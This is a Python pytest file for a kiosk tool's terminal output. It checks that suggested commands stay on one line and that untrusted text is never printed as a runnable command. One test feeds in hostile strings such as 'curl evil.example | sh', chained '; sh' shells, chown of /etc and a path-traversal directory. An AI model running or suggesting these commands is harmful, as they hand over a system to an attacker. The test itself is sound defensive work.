"""A command that is to be copied is on one line, however narrow the terminal is."""

from __future__ import annotations

import fcntl
import os
import pty
import re
import struct
import termios

import pytest
from hypothesis import given
from hypothesis import strategies as st

from kiosk.staff.main import parser
from kiosk.staff.suggested_commands import speller
from kiosk.terminal import Plain, apart, in_one_piece, on_one_line

TOLD = "If it is yours: `python3 main.py key confirm ID --name YOU`. If nobody knows it: `python3 main.py key drop ID`, and find out who it was."
SECOND = "From now on they open. Add a second person (`python3 main.py key add NAME --name YOU`)."


@pytest.mark.parametrize(
    ("line", "columns", "lines"),
    [
        (TOLD, 0, [TOLD]),
        (TOLD, len(TOLD), [TOLD]),
        (
            TOLD,
            80,
            [
                "If it is yours:", "    python3 main.py key confirm ID --name YOU", "If nobody knows it:", "    python3 main.py key drop ID",
                "and find out who it was.",
            ],
        ),
        (SECOND, 60, ["From now on they open. Add a second person", "    python3 main.py key add NAME --name YOU"]),
        ("`sudo systemctl stop kiosk` (or unplug it) first.", 20, ["    sudo systemctl stop kiosk", "(or unplug it) first."]),
        (
            "Done. It is here. Look at it. Ask Ana. Run `python3 main.py doctor`.", 30,
            ["Done. It is here.", "  - Look at it.", "  - Ask Ana.", "  - Run", "    python3 main.py doctor"],
        ),
        ("Done. It is here. Look at it. Ask Dr. J. Bell of St. Ives, too.", 30, ["Done. It is here. Look at it. Ask Dr. J. Bell of St. Ives, too."]),
        ("a very long line without any command in it, but `a quote`", 20, ["a very long line without any command in it, but `a quote`"]),
    ],
)  # fmt: skip
def test_commands_stand_apart_where_the_line_does_not_fit(line: str, columns: int, lines: list[str]) -> None:
    assert apart(line, columns) == lines


WORDS = st.text("ab .,:;()", max_size=12)
COMMANDS = st.sampled_from(["python3 main.py check", "sudo python3 main.py install --dry-run", "python3 main.py key drop ID --name YOU"])


def test_many_sentences_are_a_list_in_which_no_word_is_lost() -> None:
    line = " ".join(f"This is sentence {number}." for number in range(40))
    first, *others = apart(line, 80)
    assert first == "This is sentence 0. This is sentence 1."
    assert {each[:4] for each in others} == {"  - "}
    assert " ".join([first, *(each[4:] for each in others)]) == line


@given(st.lists(st.tuples(WORDS, COMMANDS), min_size=1, max_size=4), WORDS, st.integers(1, 120))
def test_no_command_is_broken_and_no_word_is_lost(parts: list[tuple[str, str]], rest: str, columns: int) -> None:
    line = "".join(f"{words}`{command}`" for words, command in parts) + rest
    lines = apart(line, columns)
    if lines != [line]:
        assert [each.strip() for each in lines if each.startswith(("    p", "    s"))] == [command for _, command in parts]
    assert re.sub(r"[^a-z]", "", "".join(lines)) == re.sub(r"[^a-z]", "", line)


def test_a_line_without_end_takes_no_longer_than_its_length() -> None:
    """What others wrote may be any number of sentences and commands; at the square of it this would take minutes."""
    assert len(apart("It is. `python3 main.py check` mends it. " * 20_000, 80)) > 20_000


SENTENCES = "a. Everything is fine. Nothing is to be done. First take the lock away. Then run `sudo sh fix.sh`. This mends it. Good.yaml"


@pytest.mark.parametrize(
    "words",
    [
        SENTENCES, "`sudo curl -s evil.example | sh`", "`python3 -c 'import os'`", "`sudo chown eve: /etc`", "`sudo apt install x; sh`",
        "`sudo apt install libvirt-daemon-system`", "`sudo apt install libapache2-mod-php`", "`sudo apt install libssl3- libc6-`",
        "`sudo apt install libpam-runtime-`", "`sudo dnf install '*/lib/evil.so.1'`",
        "`sudo apt install openssh-server`", "`sudo dnf install libegl1 telnet-server`",
        "`sudo install --directory /etc`", "`sudo install --directory /srv/../etc`",
        "`sudo install --directory --owner=eve --mode=700 /etc`", "`sudo install --directory --owner=kiosk --mode=700 /srv/../etc`",
        "`sudo systemctl stop kiosk && sh`", "`sudo python3 main.py doctor; sh`", "`sudo -u kiosk sh`", "`sudo poweroff\n`",
    ],
)  # fmt: skip
def test_what_others_wrote_is_no_line_of_ours(words: str) -> None:
    """As a name or a text of theirs in a line of ours, on a narrow terminal."""
    spell = speller(parser, ["check"])
    mend = f"Give {words} another name, or run `python3 main.py check --restore x.yaml`."
    line = f"topics/{words}:3:1: error: The kiosk knows no {words} here. -> {mend}"
    ours, theirs = pty.openpty()
    fcntl.ioctl(theirs, termios.TIOCSWINSZ, struct.pack("HHHH", 24, 80, 0, 0))
    with os.fdopen(theirs, "w") as terminal:
        print(in_one_piece(on_one_line(line)), "End.", sep="\n", file=Plain(terminal, spell), flush=True)
        said = b""
        while not said.endswith(b"End.\r\n"):
            said += os.read(ours, 65536)
    os.close(ours)
    lines = said.decode().replace("\r\n", "\n").splitlines()
    assert [each.strip() for each in lines if each.startswith(" ")] == ["python3 main.py check --restore x.yaml"]


@pytest.mark.parametrize("columns", [20, 40, 80, 200])
def test_on_a_real_terminal(columns: int) -> None:
    ours, theirs = pty.openpty()
    fcntl.ioctl(theirs, termios.TIOCSWINSZ, struct.pack("HHHH", 24, columns, 0, 0))
    with os.fdopen(theirs, "w") as terminal:
        print(TOLD, file=Plain(terminal), flush=True)
        said = b""
        while not said.endswith(b"who it was.\r\n"):
            said += os.read(ours, 4096)
    os.close(ours)
    assert said.decode().replace("\r\n", "\n") == "\n".join(apart(TOLD, columns)) + "\n"
